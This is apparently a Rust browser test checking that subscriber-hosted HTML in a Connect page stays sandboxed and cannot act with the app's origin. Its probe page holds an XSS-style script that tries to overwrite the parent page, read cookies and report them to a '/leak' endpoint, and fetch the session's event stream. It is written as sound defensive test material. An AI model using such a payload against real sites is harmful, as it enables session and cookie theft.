//! Subscriber HTML never runs with Callbond's origin (issue 4, point 6). A stored page whose
//! `<script>` tries to write into the Connect page, read cookies and call the session's event
//! stream is pushed into a real Chromium: the page renders (its image loads) but the script
//! never runs, the parent cannot even see into the frame (opaque origin), and opened directly
//! the page is still sandboxed by its CSP. The same probe as a URL page on the subscriber's own
//! site does run — which shows the probe works — and still cannot reach the Connect page.
#![allow(clippy::unwrap_used)]

mod web_support;

use std::time::Duration;

use serde_json::json;
use subscriber_db::{PageContent, PageInput};
use testkit::Browser;
use web_support::{COMPANY, Fixture, Setup, click_through};

/// A page that reports to the subscriber site's `/leak` what it managed to do. Without
/// script, only the image reports (`LABEL-img`).
fn probe(label: &str, site: &str, session: &str) -> String {
    format!(
        r#"<!DOCTYPE html><html lang="en"><head><meta charset="utf-8"><title>probe</title></head>
<body><h1 id="content">Probe page {label}</h1>
<img alt="" src="{site}/leak?{label}-img">
<script>
function report(what) {{ new Image().src = "{site}/leak?{label}-" + what; }}
report("script-ran");
try {{ parent.document.title = "PWNED"; report("parent-write"); }} catch (e) {{ report("parent-blocked"); }}
try {{ top.document.body.innerHTML = "PWNED"; report("top-write"); }} catch (e) {{ report("top-blocked"); }}
try {{ report("cookie=" + encodeURIComponent(document.cookie)); }} catch (e) {{ report("cookie-blocked"); }}
fetch("/sessions/{session}/events").then(
  function (r) {{ report("fetch-" + r.status); }},
  function () {{ report("fetch-failed"); }});
</script></body></html>"#
    )
}

async fn wait_for_leak(fx: &Fixture, needle: &str) -> anyhow::Result<()> {
    for _ in 0..200 {
        if fx.site.leaks().iter().any(|l| l.contains(needle)) {
            return Ok(());
        }
        tokio::time::sleep(Duration::from_millis(50)).await;
    }
    anyhow::bail!("no {needle:?} report; got {:?}", fx.site.leaks())
}

#[tokio::test(flavor = "multi_thread")]
async fn stored_html_cannot_touch_our_origin() -> anyhow::Result<()> {
    let fx = Fixture::start(Setup::default()).await?;
    let browser = Browser::start().await?;
    let session = click_through(&fx, &browser, None).await?;
    let connect_url = browser.client.current_url().await?.to_string();
    let site = format!("http://{}", fx.site.addr);
    let db = fx.db();
    let stored = db.create_page(
        &fx.sid,
        &PageInput {
            keys: "7".parse()?,
            title: "Stored probe".parse()?,
            content: PageContent::Html(probe("stored", &site, &session).parse()?),
        },
    )?;
    let url_page = db.create_page(
        &fx.sid,
        &PageInput {
            keys: "8".parse()?,
            title: "URL probe".parse()?,
            content: PageContent::Url(fx.site.url().parse()?),
        },
    )?;

    let (status, body) = fx.push(&session, json!({ "digits": "7" })).await;
    assert_eq!(status, 200, "{body}");
    browser.wait_for_text("#page-title", "Stored probe").await?;
    // The page rendered in the frame (its image loaded)...
    wait_for_leak(&fx, "stored-img").await?;
    // ...give a script that would run every chance to report.
    tokio::time::sleep(Duration::from_millis(1500)).await;
    let leaks = fx.site.leaks();
    assert!(
        !leaks
            .iter()
            .any(|l| l.contains("stored-") && !l.contains("stored-img")),
        "a script in stored HTML ran: {leaks:?}"
    );
    let title = browser.client.title().await?;
    assert_eq!(title, format!("Your call with {COMPANY}"));
    let opaque = browser
        .client
        .execute(
            "return document.getElementById('page-frame').contentDocument === null;",
            vec![],
        )
        .await?;
    assert_eq!(opaque, json!(true), "the frame shares our origin");

    // Opened directly, outside our frame, the page is still sandboxed by its CSP.
    let direct = fx
        .cb
        .url(&format!("/sessions/{session}/pages/{}", stored.id.0));
    let before = fx.site.leaks().len();
    browser.client.goto(&direct).await?;
    browser
        .wait_for_text("#content", "Probe page stored")
        .await?;
    for _ in 0..100 {
        if fx.site.leaks().len() > before {
            break;
        }
        tokio::time::sleep(Duration::from_millis(50)).await;
    }
    let origin = browser
        .client
        .execute("return window.origin;", vec![])
        .await?;
    assert_eq!(origin, json!("null"), "opaque origin when opened directly");
    let cookie = browser
        .client
        .execute(
            "try { document.cookie; return 'readable'; } catch (e) { return 'blocked'; }",
            vec![],
        )
        .await?;
    assert_eq!(cookie, json!("blocked"));
    tokio::time::sleep(Duration::from_millis(1000)).await;
    let leaks = fx.site.leaks();
    assert!(
        leaks.iter().filter(|l| l.contains("stored-img")).count() >= 2,
        "{leaks:?}"
    );
    assert!(
        !leaks.iter().any(|l| l.contains("stored-script-ran")),
        "{leaks:?}"
    );

    // The same probe as a URL page on the subscriber's own site: its script runs (the probe
    // works) but cannot reach into the Connect page.
    fx.site.serve(&probe("url", &site, &session));
    browser.client.goto(&connect_url).await?;
    browser.wait_for_text("#page-title", "Stored probe").await?;
    let (status, body) = fx.push(&session, json!({ "page_id": url_page.id.0 })).await;
    assert_eq!(status, 200, "{body}");
    browser.wait_for_text("#page-title", "URL probe").await?;
    let sandbox = browser.attr("page-frame", "sandbox").await?;
    assert_eq!(sandbox.as_deref(), Some(pagepush::frame_sandbox_for_url()));
    let open = browser.attr("page-open", "href").await?;
    assert_eq!(open.as_deref(), Some(fx.site.url().as_str()));
    wait_for_leak(&fx, "url-script-ran").await?;
    wait_for_leak(&fx, "url-parent-blocked").await?;
    wait_for_leak(&fx, "url-top-blocked").await?;
    let leaks = fx.site.leaks();
    assert!(
        !leaks
            .iter()
            .any(|l| l.contains("url-parent-write") || l.contains("url-top-write")),
        "{leaks:?}"
    );
    assert_eq!(
        browser.client.title().await?,
        format!("Your call with {COMPANY}")
    );
    browser.close().await?;
    Ok(())
}
